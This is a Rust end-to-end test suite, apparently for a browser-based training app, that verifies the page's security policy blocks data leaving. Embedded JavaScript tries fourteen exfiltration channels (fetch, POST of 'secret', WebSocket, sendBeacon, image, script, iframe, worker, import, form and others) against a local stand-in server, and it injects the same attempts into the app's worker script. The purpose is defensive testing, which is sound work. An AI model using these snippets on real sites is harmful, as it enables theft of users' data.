//! Nothing leaves the page: every way out is tried, from the page and from its worker, towards a server that listens.

use anyhow::{Context as _, Result, ensure};
use pinhole_e2e::{
    Page, Setup,
    browser::dist,
    csv::Plant,
    files::Folder,
    page::{EVENTUALLY, SOON},
    scenario,
};
use serde_json::{Value, json};
use xtask::server::{Override, Reply, Server, Site};

use crate::training::set_up;

/// Tells the page's violations and the worker's findings.
const LISTEN: &str = "
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', event => window.__violations.push(event.effectiveDirective));
    window.__worker = [];
    new BroadcastChannel('attack').onmessage = event => window.__worker.push(event.data);
";

/// Tries each way out; `arguments[0]` is the foreign address. Answers what each came to.
const ATTACK: &str = "
    const [foreign, done] = arguments;
    const outcome = {};
    const settle = (way, promise) => Promise.race([
        promise.then(() => 'allowed', () => 'refused'),
        new Promise(resolve => setTimeout(() => resolve('no answer'), 3000)),
    ]).then(result => { outcome[way] = result; });
    const loads = element => new Promise((resolve, reject) => {
        element.onload = resolve; element.onerror = reject; document.body.append(element);
    });
    const make = (name, properties) => Object.assign(document.createElement(name), properties);
    const ways = {
        fetch: () => fetch(foreign + 'fetch', { mode: 'no-cors' }),
        post: () => fetch(foreign + 'post', { mode: 'no-cors', method: 'POST', body: 'secret' }),
        XMLHttpRequest: () => new Promise((resolve, reject) => {
            const request = new XMLHttpRequest();
            request.onload = resolve; request.onerror = reject;
            request.open('GET', foreign + 'xhr'); request.send();
        }),
        WebSocket: () => new Promise((resolve, reject) => {
            const socket = new WebSocket(foreign.replace('http', 'ws') + 'socket');
            socket.onopen = resolve; socket.onerror = reject;
        }),
        EventSource: () => new Promise((resolve, reject) => {
            const source = new EventSource(foreign + 'events');
            source.onopen = resolve; source.onerror = reject;
        }),
        // The browser says true even to a beacon that the policy then drops: the foreign server's log is what counts.
        sendBeacon: () => Promise.resolve(navigator.sendBeacon(foreign + 'beacon', 'secret')),
        image: () => loads(make('img', { src: foreign + 'image.png' })),
        script: () => loads(make('script', { src: foreign + 'script.js' })),
        style: () => loads(make('link', { rel: 'stylesheet', href: foreign + 'style.css' })),
        frame: () => loads(make('iframe', { src: foreign + 'frame' })),
        worker: () => new Promise((resolve, reject) => {
            const worker = new Worker(foreign + 'worker.js');
            worker.onmessage = resolve; worker.onerror = reject;
        }),
        import: () => import(foreign + 'module.js'),
        form: () => new Promise((resolve, reject) => {
            const form = make('form', { method: 'post', action: foreign + 'form', target: '_blank' });
            document.addEventListener('securitypolicyviolation', reject, { once: true });
            document.body.append(form); form.submit();
        }),
        prefetch: () => loads(make('link', { rel: 'prefetch', href: foreign + 'prefetch' })),
    };
    (async () => {
        for (const [way, attempt] of Object.entries(ways))
            await settle(way, new Promise((resolve, reject) => { try { attempt().then(resolve, reject); } catch (error) { reject(error); } }));
        done(outcome);
    })();
";

/// Put in front of the worker's own script: the same, from within.
fn worker_attack(foreign: &str) -> String {
    let foreign = json!(foreign);
    format!(
        "{{
            const foreign = {foreign};
            const channel = new BroadcastChannel('attack');
            const attempt = (way, start) => {{
                let result;
                try {{ result = start(); }} catch (error) {{ result = Promise.reject(error); }}
                result.then(() => channel.postMessage(way + ' allowed'), () => channel.postMessage(way + ' refused'));
            }};
            attempt('fetch', () => fetch(foreign + 'worker-fetch', {{ mode: 'no-cors' }}));
            attempt('XMLHttpRequest', () => new Promise((resolve, reject) => {{
                const request = new XMLHttpRequest();
                request.onload = resolve; request.onerror = reject;
                request.open('POST', foreign + 'worker-xhr'); request.send('secret');
            }}));
            attempt('WebSocket', () => new Promise((resolve, reject) => {{
                const socket = new WebSocket(foreign.replace('http', 'ws') + 'worker-socket');
                socket.onopen = resolve; socket.onerror = reject;
            }}));
            attempt('import', () => import(foreign + 'worker-module.js'));
        }}
        "
    )
}

#[test]
fn every_way_out_is_refused() {
    let foreign = Server::start(Site::new(dist()), 0).expect("a free port");
    // Another name for this machine is another origin, but also another host: closest to a stranger's server.
    let address = foreign.address().replace("127.0.0.1", "localhost");
    let own = std::fs::read_to_string(dist().join("engine-worker.js")).expect("the worker's script is in dist");
    let body = format!("{}{own}", worker_attack(&address)).into_bytes();
    let attacked: Override = Box::new(move |path| {
        (path == "engine-worker.js").then(|| Reply { status: 200, content_type: "text/javascript", body: body.clone() })
    });
    scenario(Setup::cpu().before_scripts(LISTEN).instead(attacked), async |page| {
        page.open("").await?;
        set_up(page, 500, 64, 1).await?;
        page.press("Train").await?;
        page.until_phase("finished", EVENTUALLY).await?;
        attack_from_page(page, &address).await?;
        let from_worker = page
            .until("four attempts from the worker", SOON, async || {
                let told = page.script("return window.__worker;", vec![]).await?;
                Ok((told.as_array().is_some_and(|told| told.len() >= 4)).then_some(told))
            })
            .await?;
        println!("from the worker: {from_worker}");
        let arrived = foreign.log();
        ensure!(arrived.is_empty(), "another server has seen {arrived:?}");
        ensure!(!from_worker.to_string().contains("allowed"), "the worker may do what the page may not: {from_worker}");
        ensure_only_files(page)?;
        Ok(())
    });
    let answered = std::net::TcpStream::connect(address.trim_start_matches("http://").trim_end_matches('/'));
    assert!(answered.is_ok(), "the foreign server does not listen: nothing could have arrived");
}

/// That the page has asked its own server for its own files and nothing else.
fn ensure_only_files(page: &Page) -> Result<()> {
    for request in page.requests() {
        ensure!(request.method == "GET" && request.body_length == 0, "more than a file was asked for: {request:?}");
        let path = request.url.split('?').next().unwrap_or_default().trim_start_matches('/');
        let is_file = path.is_empty() || path == "favicon.ico" || dist().join(path).is_file();
        ensure!(is_file, "something that is no file of the page was asked for: {request:?}");
    }
    Ok(())
}

/// A word that stands in the table and nowhere else.
const SECRET: &str = "tremulous-quokka";

#[test]
fn a_table_stays_in_the_page_while_it_is_opened_learned_from_and_exported() {
    let foreign = Server::start(Site::new(dist()), 0).expect("a free port");
    let address = foreign.address().replace("127.0.0.1", "localhost");
    scenario(Setup::cpu().before_scripts(LISTEN), async |page| {
        let folder = Folder::new("secret")?;
        let table = Plant { odd_every: 20, ..Plant::new(600, 8) }.csv().replace("boost", SECRET);
        let table = folder.write(&format!("{SECRET}.csv"), table.as_bytes())?;
        page.open_tables().await?;
        page.open_csv(&table).await?;
        page.train_on_table().await?;
        page.shown_rows().await?;
        let (_, scored) = page.download("Download scored CSV", "csv").await?;
        ensure!(String::from_utf8_lossy(&scored).contains(SECRET), "the exported file is not of that table");
        page.download("Download report", "html").await?;
        page.download("Save detector", "safetensors").await?;
        attack_from_page(page, &address).await?;
        ensure!(foreign.log().is_empty(), "another server has seen {:?}", foreign.log());
        ensure_only_files(page)?;
        let told = page.requests().iter().any(|request| request.url.contains(SECRET));
        ensure!(!told, "an address tells of the table");
        let kept = page.client.execute_async(KEPT, vec![json!(SECRET)]).await?;
        ensure!(kept == false, "the browser keeps something of the table");
        Ok(())
    });
}

/// Whether the browser's storage holds a word.
const KEPT: &str = "
    const [word, done] = arguments;
    const holds = storage => JSON.stringify({ ...storage }).includes(word);
    const search = async () => {
        if (holds(localStorage) || holds(sessionStorage) || document.cookie.includes(word)) return true;
        for (const { name } of await indexedDB.databases()) if (name.includes(word)) return true;
        for await (const [name, handle] of (await navigator.storage.getDirectory()).entries())
            if (name.includes(word) || (handle.kind === 'file' && (await (await handle.getFile()).text()).includes(word))) return true;
        return false;
    };
    search().then(done, error => done(String(error)));
";

async fn attack_from_page(page: &Page, address: &str) -> Result<()> {
    let outcome = page.client.execute_async(ATTACK, vec![json!(address)]).await?;
    println!("from the page: {outcome}");
    let ways = outcome.as_object().context("what each way came to")?;
    ensure!(ways.len() == 14, "{} ways were tried, not 14", ways.len());
    for (way, result) in ways {
        // A frame that was refused tells its page nothing: it shows an error of the browser's, and that has loaded.
        let tells_nothing = matches!(way.as_str(), "sendBeacon" | "frame");
        ensure!(tells_nothing || result != "allowed", "{way} was allowed");
    }
    let violations = page.script("return window.__violations;", vec![]).await?;
    let seen = |directive: &str| {
        violations
            .as_array()
            .is_some_and(|all| all.iter().filter_map(Value::as_str).any(|one| one.starts_with(directive)))
    };
    for directive in ["connect-src", "img-src", "script-src", "style-src", "form-action", "frame-src"] {
        ensure!(seen(directive), "the policy has not spoken of {directive}: {violations}");
    }
    Ok(())
}
